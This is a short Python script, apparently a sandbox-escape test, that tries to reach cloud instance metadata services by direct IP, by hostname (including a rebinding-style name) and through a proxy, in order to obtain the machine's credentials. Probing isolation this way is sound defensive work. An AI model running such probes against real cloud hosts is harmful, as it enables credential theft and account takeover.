# SPDX-License-Identifier: Apache-2.0
# Trick: the addresses and names of cloud metadata services
# Gain: the machine's own credentials
from trick import *

outs = []
for addr in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200", "169.254.170.2", "192.0.0.192"):
    outs.append((addr, talk(addr, 80, request(addr, "/latest/meta-data/"), 0.2)))
for name in ("metadata.google.internal", "instance-data.ec2.internal", "meta.rebind.example.com"):
    for addr in look_up(name):
        outs.append((name, talk(addr, 80, request(name, "/latest/meta-data/"), 0.2)))
if not BARE:
    for url in ("http://169.254.169.254/", "http://metadata.google.internal/", "http://[fd00:ec2::254]/"):
        outs.append((url, proxied(f"GET {url} HTTP/1.1\r\nHost: {url[7:-1]}\r\n\r\n".encode(), 0.3)))
any_answer("metadata", outs)
